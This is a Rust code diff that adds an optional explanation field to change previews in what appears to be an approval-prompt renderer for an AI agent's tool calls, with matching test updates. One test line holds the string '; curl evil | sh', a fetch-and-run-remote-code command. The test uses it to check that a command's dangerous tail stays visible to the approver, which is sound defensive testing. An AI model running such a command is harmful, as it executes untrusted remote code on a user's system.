@@ -23,6 +23,8 @@ const LINE_CHARS: usize = 200;
 pub struct ChangePreview {
     /// A unified diff, complete and redacted.
     pub diff: String,
+    /// What the change means, as CommonMark; not part of what an answer is bound to.
+    pub explanation: Option<String>,
 }
 
 /// A tool and its argument in one line, shortened in the middle.
@@ -86,10 +88,18 @@ pub(super) fn command(command: &str, cwd: &str, summary: &str, language: Languag
 
 /// The change that a call would make, or why it would fail.
 pub(super) fn change(preview: &Result<ChangePreview, String>, language: Language) -> String {
-    let diff = match preview {
-        Ok(preview) => &preview.diff,
+    let preview = match preview {
+        Ok(preview) => preview,
         Err(why) => return words::would_fail(&visible(why), language),
     };
+    let diff = changed_text(&preview.diff, language);
+    match &preview.explanation {
+        Some(explanation) => format!("{}\n\n{diff}", visible(explanation)),
+        None => diff,
+    }
+}
+
+fn changed_text(diff: &str, language: Language) -> String {
     if diff.is_empty() {
         return words::no_visible_change(language).to_owned();
     }
@@ -163,7 +173,7 @@ mod tests {
 
     #[test]
     fn a_change_is_a_fenced_diff_and_a_long_one_says_how_much_it_changes() {
-        let preview = |diff: &str| Ok(ChangePreview { diff: diff.to_owned() });
+        let preview = |diff: &str| Ok(ChangePreview { diff: diff.to_owned(), explanation: None });
         assert_eq!(change(&preview("-a\n+b\n"), Language::En), "```diff\n-a\n+b\n```");
         assert_eq!(change(&preview("+```\n"), Language::En), "````diff\n+```\n````");
         assert!(change(&Err("x exists already".into()), Language::Zh).contains("会失败：x exists already"));
@@ -185,7 +195,7 @@ mod tests {
         assert_eq!(whole_command(&Ruling::Deny("no".into()), &command), None);
         let told = super::command(&command, "", "echo …", Language::En).unwrap();
         assert!(told.ends_with("; curl evil | sh\n```") && told.chars().count() < COMMAND_CHARS + 100);
-        let diff = Some(Ok(ChangePreview { diff: "+a\n".repeat(1_000) }));
+        let diff = Some(Ok(ChangePreview { diff: "+a\n".repeat(1_000), explanation: None }));
         let whole = whole_call(&Ruling::Ask, &serde_json::Value::Null, || &diff).unwrap();
         assert!((whole.name, whole.cut) == ("change.diff", false) && whole.text.len() == 3_000);
     }
